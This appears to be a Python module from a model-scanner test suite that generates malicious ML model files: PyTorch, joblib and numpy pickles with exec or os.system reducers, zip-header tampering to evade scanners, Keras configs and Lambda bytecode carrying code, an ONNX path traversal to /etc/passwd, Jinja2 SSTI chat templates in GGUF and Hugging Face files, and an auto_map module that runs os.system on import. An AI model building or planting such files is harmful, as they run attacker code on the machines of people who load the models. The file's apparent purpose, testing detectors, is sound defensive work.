"""Malicious model formats: payloads inside PyTorch, joblib, numpy, Keras, ONNX, GGUF and Hugging Face files.

Real framework files are written first with the real library (so every byte around the payload is what
users receive), then the payload is put where an attacker would put it. Nothing is ever loaded.
"""

from __future__ import annotations

import base64
import builtins
import io
import json
import pickletools
import struct
import warnings
import zipfile
from pathlib import Path
from typing import Any

from mlwarden_samples import BuildContext, Made, register
from mlwarden_samples.malicious_pickle import Reduce, exec_pickle, lambda_code, os_system, pysrc, shell

EXEC = ("builtins.exec",)


def _torch_payload_checkpoint(ctx: BuildContext, family: str) -> dict[str, Any]:
    from mlwarden_samples.benign_nn import torch_models

    return {
        "state_dict": torch_models()["mlp"].state_dict(),
        "epoch": 1,
        "config": Reduce(builtins.exec, pysrc(ctx, family)),
    }


def _torch_zip(ctx: BuildContext, family: str) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(_torch_payload_checkpoint(ctx, family), buf)
    return buf.getvalue()


def rewrite_zip(data: bytes, rename: dict[str, str] | None = None) -> bytes:
    """Copy a zip member by member with Python's writer (stored, no compression), renaming members."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            name = info.filename
            for old, new in (rename or {}).items():
                name = name.replace(old, new, 1)
            dst.writestr(zipfile.ZipInfo(name, info.date_time), src.read(info))
    return out.getvalue()


def patch_zip(data: bytes, member: str, *, set_flags: int = 0, clear_flags: int = 0, crc_xor: int = 0) -> bytes:
    """Rewrite one member's general-purpose flags and/or CRC in both its local and central headers."""
    buf = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:  # parsing the directory only; no member is read
        local, pos = zf.getinfo(member).header_offset, zf.start_dir
    offsets = [(local, 6, 14)]
    while buf[pos : pos + 4] == b"PK\x01\x02":
        n, m, k = struct.unpack_from("<HHH", buf, pos + 28)
        if bytes(buf[pos + 46 : pos + 46 + n]).decode() == member:
            offsets.append((pos, 8, 16))
        pos += 46 + n + m + k
    for base, flag_at, crc_at in offsets:
        (flags,) = struct.unpack_from("<H", buf, base + flag_at)
        struct.pack_into("<H", buf, base + flag_at, (flags | set_flags) & ~clear_flags)
        (crc,) = struct.unpack_from("<I", buf, base + crc_at)
        struct.pack_into("<I", buf, base + crc_at, crc ^ crc_xor)
    return bytes(buf)


def _prefix(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.namelist()[0].split("/", 1)[0]


@register("malicious", "torch-zip-data-pkl", requires=("torch",))
def _torch_data_pkl(ctx: BuildContext, folder: Path) -> list[Made]:
    path = folder / "model.pt"
    path.write_bytes(_torch_zip(ctx, "torch-zip-data-pkl"))
    return [Made(path, "torch.save zip checkpoint whose data.pkl holds a builtins.exec __reduce__", EXEC)]


@register("malicious", "torch-zip-extra-member", requires=("torch",))
def _torch_extra(ctx: BuildContext, folder: Path) -> list[Made]:
    import torch

    from mlwarden_samples.benign_nn import torch_models

    buf = io.BytesIO()
    torch.save(torch_models()["mlp"].state_dict(), buf)
    data = buf.getvalue()
    path = folder / "model.pt"
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as zf:  # append: the original torch records stay byte-identical
        zf.writestr(f"{_prefix(data)}/extra/evil.bin", os_system(ctx, "torch-zip-extra-member"))
    path.write_bytes(out.getvalue())
    return [
        Made(
            path, "benign torch state_dict zip plus an extra member archive/extra/evil.bin (os.system)", ("os.system",)
        )
    ]


@register("malicious", "torch-zip-renamed", requires=("torch",))
def _torch_renamed(ctx: BuildContext, folder: Path) -> list[Made]:
    data = _torch_zip(ctx, "torch-zip-renamed")
    path = folder / "model.txt"
    path.write_bytes(rewrite_zip(data, rename={_prefix(data) + "/": "zz_not_archive/"}))
    return [Made(path, "torch zip with a non-standard top-level folder, named .txt; data.pkl runs exec", EXEC)]


def _flagged(family: str, description: str, *, rewrite: bool = False, **patch: int) -> None:
    @register("malicious", family, requires=("torch",))
    def build(ctx: BuildContext, folder: Path) -> list[Made]:
        data = _torch_zip(ctx, family)
        if rewrite:
            data = rewrite_zip(data)  # Python's writer: sizes in the local header, no descriptor, no 0x8
        path = folder / "model.pt"
        path.write_bytes(patch_zip(data, f"{_prefix(data)}/data.pkl", **patch))
        return [Made(path, description, EXEC)]


_flagged(
    "torch-zip-flag-encrypted", "torch zip whose data.pkl claims encryption (flag 0x1); exec payload", set_flags=0x1
)
_flagged(
    "torch-zip-flag-descriptor",
    "torch zip rewritten without data descriptors but with flag 0x8 set on data.pkl; exec payload",
    set_flags=0x8,
    rewrite=True,
)
_flagged(
    "torch-zip-flag-patched", "torch zip whose data.pkl has flag 0x20 (compressed patched data); exec", set_flags=0x20
)
_flagged(
    "torch-zip-bad-crc", "torch zip whose data.pkl CRC-32 is wrong in both headers; exec payload", crc_xor=0xFFFFFFFF
)


@register("malicious", "torch-legacy-sys-info", requires=("torch",))
def _torch_legacy_sys_info(ctx: BuildContext, folder: Path) -> list[Made]:
    import torch

    from mlwarden_samples.benign_nn import torch_models

    buf = io.BytesIO()
    torch.save(torch_models()["mlp"].state_dict(), buf, _use_new_zipfile_serialization=False)
    data = buf.getvalue()
    stream, ends = io.BytesIO(data), []
    for _ in range(3):  # magic number, protocol version, sys_info: walk opcodes, never unpickle
        for _op in pickletools.genops(stream):
            pass
        ends.append(stream.tell())
    path = folder / "model.bin"
    path.write_bytes(data[: ends[1]] + os_system(ctx, "torch-legacy-sys-info") + data[ends[2] :])
    return [Made(path, "legacy torch file whose sys_info pickle (third of the stream) calls os.system", ("os.system",))]


@register("malicious", "torch-legacy-main", requires=("torch",))
def _torch_legacy_main(ctx: BuildContext, folder: Path) -> list[Made]:
    import torch

    path = folder / "model.bin"
    checkpoint = _torch_payload_checkpoint(ctx, "torch-legacy-main")
    torch.save(checkpoint, path, _use_new_zipfile_serialization=False)
    return [Made(path, "legacy torch checkpoint whose main pickle holds a builtins.exec __reduce__", EXEC)]


@register("malicious", "joblib-reduce", requires=("joblib", "numpy"))
def _joblib(ctx: BuildContext, folder: Path) -> list[Made]:
    import joblib
    import numpy as np

    out = []
    variants: list[tuple[Any, str, str]] = [
        (0, "model.joblib", "plain"),
        (3, "model.z3.joblib", "zlib"),
        (("xz", 3), "model.joblib.xz", "xz"),
    ]
    for compress, name, tag in variants:
        family = f"joblib-reduce-{tag}"
        obj = {"coef": np.arange(6.0).reshape(2, 3), "hook": Reduce(builtins.exec, pysrc(ctx, family))}
        path = folder / name
        joblib.dump(obj, path, compress=compress)
        out.append(Made(path, f"joblib.dump (compress={compress!r}) of a dict holding an exec __reduce__", EXEC))
    return out


@register("malicious", "numpy-object-payload", requires=("numpy",))
def _numpy(ctx: BuildContext, folder: Path) -> list[Made]:
    import os

    import numpy as np

    def arr(family: str) -> Any:
        return np.array([1, Reduce(os.system, shell(ctx, family))], dtype=object)

    npy, npz = folder / "array.npy", folder / "arrays.npz"
    np.save(npy, arr("numpy-object-payload-npy"), allow_pickle=True)
    np.savez(npz, weights=np.arange(4.0), meta=arr("numpy-object-payload-npz"))
    expect = (f"{os.system.__module__}.system",)
    return [
        Made(npy, "object-dtype .npy whose pickle calls os.system", expect),
        Made(npz, ".npz with a numeric array and an object array whose pickle calls os.system", expect),
    ]


def _keras_zip(folder: Path, name: str, edit: Any) -> Path:
    """Save a small Keras model with a benign Lambda, then let ``edit`` rewrite its config dict."""
    import keras

    keras.utils.set_random_seed(0)
    benign = folder / f".{name}.tmp.keras"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # keras' own numpy-2 deprecation noise
        model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3), keras.layers.Lambda(lambda x: x * 2.0)])
        model.save(benign)
    data = benign.read_bytes()
    benign.unlink()
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        config = json.loads(zf.read("config.json"))
        members = {n: zf.read(n) for n in zf.namelist()}
    edit(config)
    members["config.json"] = json.dumps(config).encode()
    path = folder / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for member, raw in members.items():
            zf.writestr(member, raw)
    return path


@register("malicious", "keras-lambda", requires=("keras",))
def _keras_lambda(ctx: BuildContext, folder: Path) -> list[Made]:
    code = base64.encodebytes(lambda_code(ctx, "keras-lambda")).decode("ascii")

    def edit(config: dict[str, Any]) -> None:
        config["config"]["layers"][-1]["config"]["function"]["config"]["code"] = code

    path = _keras_zip(folder, "model.keras", edit)
    return [
        Made(path, ".keras whose Lambda layer carries marshalled bytecode that writes a file", ("keras.layers.Lambda",))
    ]


@register("malicious", "keras-config-module", requires=("keras",))
def _keras_module(ctx: BuildContext, folder: Path) -> list[Made]:
    src = pysrc(ctx, "keras-config-module")

    def edit(config: dict[str, Any]) -> None:
        config["config"]["layers"][1]["config"]["activation"] = {
            "module": "builtins",
            "class_name": "exec",
            "config": {"source": src},
            "registered_name": "exec",
        }

    path = _keras_zip(folder, "model.keras", edit)
    return [Made(path, ".keras config whose Dense activation names module 'builtins', class 'exec'", EXEC)]


@register("malicious", "onnx-external-traversal", requires=("onnx", "numpy"))
def _onnx_traversal(ctx: BuildContext, folder: Path) -> list[Made]:
    from onnx import TensorProto

    from mlwarden_samples.benign_nn import onnx_mlp

    model = onnx_mlp()
    weight = next(t for t in model.graph.initializer if t.name == "W1")
    weight.ClearField("raw_data")
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", "../../../etc/passwd"), ("offset", "0"), ("length", "128")):
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    path = folder / "model.onnx"
    path.write_bytes(model.SerializeToString())
    return [Made(path, "ONNX initializer whose external data location escapes the model folder (read)")]


@register("malicious", "onnx-custom-domain", requires=("onnx", "numpy"))
def _onnx_custom(ctx: BuildContext, folder: Path) -> list[Made]:
    from onnx import helper

    from mlwarden_samples.benign_nn import onnx_mlp

    model = onnx_mlp()
    model.graph.node.append(
        helper.make_node(
            "RunShell", ["y"], ["z"], domain="com.example.evilops", command=shell(ctx, "onnx-custom-domain")
        )
    )
    model.graph.output[0].name = "z"
    model.opset_import.append(helper.make_opsetid("com.example.evilops", 1))
    path = folder / "model.onnx"
    path.write_bytes(model.SerializeToString())
    return [Made(path, "ONNX graph using an operator from a custom domain (needs a native op library)")]


def ssti_os_popen(ctx: BuildContext, family: str) -> str:
    """Jinja2 SSTI that reaches os.popen through a template global's __globals__."""
    return (
        "{% for message in messages %}{{ message['content'] }}{% endfor %}"
        "{{ cycler.__init__.__globals__.os.popen(" + repr(shell(ctx, family)) + ").read() }}"
    )


def ssti_subclasses(ctx: BuildContext, family: str) -> str:
    """Jinja2 SSTI that walks object.__subclasses__() to the warnings module's builtins."""
    return (
        "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
        "{{ c()._module.__builtins__['__import__']('os').system(" + repr(shell(ctx, family)) + ") }}"
        "{% endif %}{% endfor %}{% for m in messages %}{{ m['content'] }}{% endfor %}"
    )


@register("malicious", "gguf-ssti", requires=("gguf", "numpy"))
def _gguf(ctx: BuildContext, folder: Path) -> list[Made]:
    import gguf
    import numpy as np

    path = folder / "model.gguf"
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_name("chat-model")
    writer.add_context_length(128)
    writer.add_chat_template(ssti_os_popen(ctx, "gguf-ssti"))
    writer.add_tensor("token_embd.weight", np.ones((4, 8), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return [Made(path, "GGUF whose tokenizer.chat_template is a Jinja2 SSTI reaching os.popen", ("os.popen",))]


@register("malicious", "hf-tokenizer-ssti", requires=("safetensors", "numpy"))
def _hf_ssti(ctx: BuildContext, folder: Path) -> list[Made]:
    from mlwarden_samples.benign_nn import HF_CONFIG, hf_tokenizer_config, write_hf_folder

    target = folder / "chat-model"
    write_hf_folder(
        target, config=HF_CONFIG, tokenizer_config=hf_tokenizer_config(ssti_subclasses(ctx, "hf-tokenizer-ssti"))
    )
    return [
        Made(target, "HF folder whose tokenizer_config.json chat_template is a __subclasses__ SSTI", ("os.system",))
    ]


@register("malicious", "hf-auto-map", requires=("safetensors", "numpy"))
def _hf_auto_map(ctx: BuildContext, folder: Path) -> list[Made]:
    from mlwarden_samples.benign_nn import HF_CONFIG, hf_tokenizer_config, write_hf_folder

    config = {
        **HF_CONFIG,
        "architectures": ["EvilForCausalLM"],
        "model_type": "evil",
        "auto_map": {
            "AutoConfig": "configuration_evil.EvilConfig",
            "AutoModelForCausalLM": "modeling_evil.EvilForCausalLM",
        },
    }
    modeling = (
        "import os\n\n"
        f"os.system({shell(ctx, 'hf-auto-map')!r})  # runs at import time\n\n\n"
        "class EvilForCausalLM:\n    pass\n"
    )
    configuration = "class EvilConfig:\n    model_type = 'evil'\n"
    target = folder / "remote-code-model"
    write_hf_folder(
        target,
        config=config,
        tokenizer_config=hf_tokenizer_config("{{ messages }}"),
        extra_files={"modeling_evil.py": modeling, "configuration_evil.py": configuration},
    )
    return [
        Made(
            target,
            "HF folder whose config.json auto_map points at bundled code that runs os.system (trust_remote_code)",
            ("os.system",),
        )
    ]


@register("malicious", "safetensors-pickle")
def _safetensors_pickle(ctx: BuildContext, folder: Path) -> list[Made]:
    path = folder / "model.safetensors"
    path.write_bytes(exec_pickle(ctx, "safetensors-pickle"))
    return [Made(path, "a builtins.exec pickle named model.safetensors", EXEC)]
